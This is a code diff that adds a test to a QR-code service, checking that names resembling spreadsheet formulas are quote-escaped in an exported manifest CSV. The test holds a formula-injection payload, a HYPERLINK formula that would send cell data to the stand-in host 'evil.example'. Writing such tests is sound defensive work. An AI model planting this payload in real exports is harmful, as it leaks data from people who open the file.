@@ -251,3 +251,19 @@ async def test_items_with_numbers_past_64_bits_are_answered_not_crashed(gql, key
     item = {"name": "n", "dataType": "URL", "data": {"url": 2**70}, "kind": "STATIC"}
     body = await gql(key, SUBMIT, input={"items": [item, item], "format": "PNG"})
     assert "errors" not in body, body
+
+
+async def test_issue10_manifest_cells_never_run_as_spreadsheet_formulas(
+    gql, key, run_jobs, client: httpx.AsyncClient
+) -> None:
+    evil = '=HYPERLINK("https://evil.example/?"&A1,"click")'
+    items = [{**url_item(0), "name": evil}, {**url_item(1), "name": "@SUM(1+1)"}]
+    payload = (await gql(key, SUBMIT, input={"items": items}))["data"]["bulkCreateQrCodes"]
+    assert payload["userErrors"] == []
+    await run_jobs()
+    job = (await gql(key, JOB, id=payload["bulkJob"]["id"]))["data"]["bulkJob"]
+    response = await client.get(job["resultUrl"].removeprefix("http://testserver"))
+    archive = zipfile.ZipFile(io.BytesIO(response.content))
+    rows = list(csv.DictReader(io.StringIO(archive.read("manifest.csv").decode())))
+    assert [r["name"] for r in rows] == ["'" + evil, "'@SUM(1+1)"]
+    assert decoded(archive.read(rows[0]["file"])) == rows[0]["shortUrl"] + "?qr=1"
